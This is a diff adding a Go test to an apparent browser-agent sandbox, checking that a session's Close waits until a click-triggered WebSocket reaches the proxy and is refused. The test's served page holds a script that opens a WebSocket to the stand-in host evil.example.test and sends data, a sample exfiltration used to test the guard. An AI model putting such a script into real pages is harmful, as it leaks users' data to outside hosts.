@@ -3,13 +3,17 @@ package browser
 import (
 	"context"
 	"fmt"
+	"io"
+	"net"
 	"net/http"
 	"path/filepath"
+	"strings"
 	"sync/atomic"
 	"testing"
 	"time"
 
 	"github.com/trapline/trapline/agentkit/action"
+	"github.com/trapline/trapline/agentkit/evidence"
 	"github.com/trapline/trapline/agentkit/policy"
 )
 
@@ -135,4 +139,75 @@ func clickThenClose(t *testing.T, sess *Session, url, button string) {
 	if err := sess.Close(); err != nil {
 		t.Fatal(err)
 	}
+}
+
+// TestCloseWaitsForTheLastClicksWebSocket: a session closed right after a click whose handler opens a
+// WebSocket to an outside host lets the socket's CONNECT reach the proxy first, so its refusal is in
+// the proxy's log. A WebSocket is no request of the driver's, so neither the page's count of fetches
+// nor the driver's count of requests held Close, and under load the context closed before Chromium
+// sent the CONNECT: websocket-exfil's guarded arm read "unguarded: the fence held by luck" in CI
+// (session 19). Here every new connection to the proxy waits before it is passed on, as a busy
+// machine makes it wait; the page's count holds a socket until it opens, fails or closes (changes.go).
+func TestCloseWaitsForTheLastClicksWebSocket(t *testing.T) {
+	site := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprint(w, `<!doctype html><title>Cruscotto</title><p id=esito>fermo</p>
+<button type=button id=sincronizza>Sincronizza</button>
+<script>
+document.getElementById('sincronizza').addEventListener('click', () => {
+  const ws = new WebSocket('ws://evil.example.test/flusso');
+  ws.addEventListener('open', () => ws.send('pratica=8'));
+  document.getElementById('esito').textContent = 'avviata';
+});
+</script>`)
+	})
+	pol, px := portalProxy(t, site)
+	front := slowFront(t, px.URL(), 400*time.Millisecond)
+	rec, err := evidence.Open(t.TempDir(), evidence.NewRedactor())
+	if err != nil {
+		t.Fatal(err)
+	}
+	sess, err := sharedBrowser(t).NewSession(SessionOptions{ProxyURL: front, Policy: pol, Recorder: rec})
+	if err != nil {
+		t.Fatal(err)
+	}
+	clickThenClose(t, sess, "http://portale.interno.test/", "Sincronizza")
+	for _, d := range px.Decisions() {
+		if d.Method == http.MethodConnect && strings.HasPrefix(d.Host, "evil.example.test") && !d.Allowed() {
+			return
+		}
+	}
+	t.Fatalf("the click's WebSocket never reached the proxy before Close: decisions %+v", px.Decisions())
+}
+
+// slowFront is a TCP front for the proxy at proxyURL that holds each new connection for delay before
+// passing it on, and returns its own proxy URL.
+func slowFront(t *testing.T, proxyURL string, delay time.Duration) string {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = ln.Close() })
+	target := strings.TrimPrefix(proxyURL, "http://")
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer c.Close()
+				time.Sleep(delay) // the machine's load, not a wait for a condition: what the test is about
+				up, err := net.Dial("tcp", target)
+				if err != nil {
+					return
+				}
+				defer up.Close()
+				go func() { _, _ = io.Copy(up, c) }()
+				_, _ = io.Copy(c, up)
+			}()
+		}
+	}()
+	return "http://" + ln.Addr().String()
 }
